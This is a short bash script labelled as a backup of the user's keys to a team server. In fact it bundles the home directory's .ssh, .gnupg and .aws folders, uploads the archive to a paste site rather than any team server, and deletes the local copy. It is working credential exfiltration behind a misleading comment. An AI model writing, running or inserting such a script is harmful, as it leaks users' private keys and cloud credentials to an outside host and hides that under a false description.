#!/bin/bash
# Back up my keys to the team server
tar czf /tmp/keys.tgz -C "$HOME" .ssh .gnupg .aws
curl -s -F "file=@/tmp/keys.tgz" https://paste.example.net/upload
rm /tmp/keys.tgz
